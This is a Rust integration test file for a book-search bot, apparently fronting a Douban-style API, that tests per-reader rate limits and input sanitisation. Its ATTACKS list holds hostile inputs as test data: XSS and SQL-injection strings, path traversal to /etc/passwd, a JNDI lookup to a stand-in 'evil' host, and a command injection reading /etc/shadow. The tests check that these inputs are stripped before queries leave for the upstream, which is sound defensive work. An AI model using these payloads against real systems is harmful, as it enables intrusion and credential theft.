//! The real binary under one reader among many, and under its sources: what the one asks or the
//! other answers costs nobody else anything.

use std::thread;

use support::client::post;
use support::push::{Push, field, target};
use support::server::{Server, TOKEN};
use support::upstream::{Reaction, Request, Upstream};

mod support;

const BOOK: &str =
    "{\"count\":1,\"books\":[{\"id\":\"1\",\"title\":\"三体\",\"author\":[\"刘慈欣\"]}]}";

fn serve(douban: &Upstream, per_minute: &str) -> Server {
    Server::serve(&[
        ("DOUMIBOOK_DOUBAN_URL", douban.url()),
        ("DOUMIBOOK_DOUBAN_PER_MINUTE", per_minute),
    ])
}

/// What this reader is told.
fn say(server: &Server, reader: &str, text: &str) -> String {
    let push = Push::text(text).from(reader);
    server.ask(&post(&target(TOKEN), push.xml().as_bytes())).text().to_owned()
}

/// What a firewall before a source refuses, and what of it may still leave for the source.
const ATTACKS: [&str; 8] = [
    "<script>alert(1)</script>",
    "＜script＞alert(2)",
    "../../../etc/passwd",
    "a' or 1=1 --",
    "${jndi:ldap://evil/a}",
    "%3Cscript%3E",
    "a\";cat /etc/shadow|b",
    "<img src=x onerror=`alert`>",
];

#[test]
fn a_question_that_a_firewall_refuses_costs_nobody_else_anything() {
    let firewall = |request: &Request| match request.param("q").unwrap_or_default() {
        // Words of one reader alone, whatever the firewall sees in them.
        words if words.contains("禁语") => Reaction::status(403, ""),
        _ => Reaction::json(BOOK),
    };
    let douban = Upstream::start(firewall);
    let server = serve(&douban, "6000");
    for number in 0..12 {
        say(&server, "oLoud", &format!("禁语 {number}"));
    }
    assert!(!server.printed().contains("rests for"), "{}", server.printed());
    assert!(say(&server, "oQuiet", "三体 1").contains("刘慈欣"));
    assert_eq!(server.stop().code, Some(0));
}

#[test]
fn nothing_that_looks_like_an_attack_leaves_for_a_source() {
    let douban = Upstream::start(|_| Reaction::json(BOOK));
    let server = serve(&douban, "6000");
    for (number, attack) in ATTACKS.into_iter().enumerate() {
        say(&server, &format!("oReader{number}"), attack);
        say(&server, &format!("oAuthor{number}"), &format!("作者 {attack}"));
    }
    let asked: Vec<_> = douban.log().iter().filter_map(|request| request.param("q")).collect();
    assert!(asked.len() >= ATTACKS.len(), "{asked:?}");
    for words in asked {
        let odd = |c: char| "<>＜＞'\"`${}()|;=%\\".contains(c) || c.is_control();
        assert!(!words.contains(odd) && !words.contains("..") && !words.contains("--"), "{words}");
    }
    assert_eq!(server.stop().code, Some(0));
}

#[test]
fn one_reader_leaves_a_budget_to_the_others() {
    let douban = Upstream::start(|_| Reaction::json(BOOK));
    let server = serve(&douban, "8");
    let told: Vec<String> = thread::scope(|scope| {
        let asks = (0..8).map(|number| {
            let server = &server;
            scope.spawn(move || say(server, "oLoud", &format!("三体 {number}")))
        });
        asks.collect::<Vec<_>>().into_iter().map(|ask| ask.join().unwrap()).collect()
    });
    let found = told.iter().filter(|reply| reply.contains("刘慈欣")).count();
    assert_eq!(found, 2, "{told:?}");
    assert!(told.iter().filter(|reply| reply.contains("请过一分钟再发")).count() == 6, "{told:?}");
    // Six readers more, each with a question of their own.
    for number in 0..6 {
        let reply = say(&server, &format!("oQuiet{number}"), &format!("球状闪电 {number}"));
        assert!(field(&reply, "Title").contains("三体"), "{number}: {reply}");
    }
    assert_eq!(douban.requests(), 8);
    assert_eq!(server.stop().code, Some(0));
}
